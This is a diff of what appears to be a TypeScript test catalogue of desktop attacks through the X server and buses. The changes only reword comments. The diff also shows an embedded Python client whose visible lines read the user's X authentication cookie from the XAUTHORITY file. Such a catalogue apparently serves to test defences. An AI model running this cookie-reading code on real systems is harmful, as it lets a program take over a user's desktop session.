@@ -1,6 +1,6 @@
 import type { ShellAttack } from './attack.js';
 
-/** Attacks on a desktop by clients of its X server and its buses. */
+/** Attacks by clients of the desktop's X server and buses. */
 
 const desktop = (name: string, text: string, more: Partial<ShellAttack> = {}): ShellAttack => ({
   name,
@@ -10,7 +10,7 @@ const desktop = (name: string, text: string, more: Partial<ShellAttack> = {}): S
   ...more,
 });
 
-/** A client of the X server that speaks the protocol itself: no library has to be installed. */
+/** Speaks the X protocol itself, so that no library is needed. */
 const client = String.raw`
 import os, re, socket, struct
 cookie = open(os.environ['XAUTHORITY'], 'rb').read()[-16:]
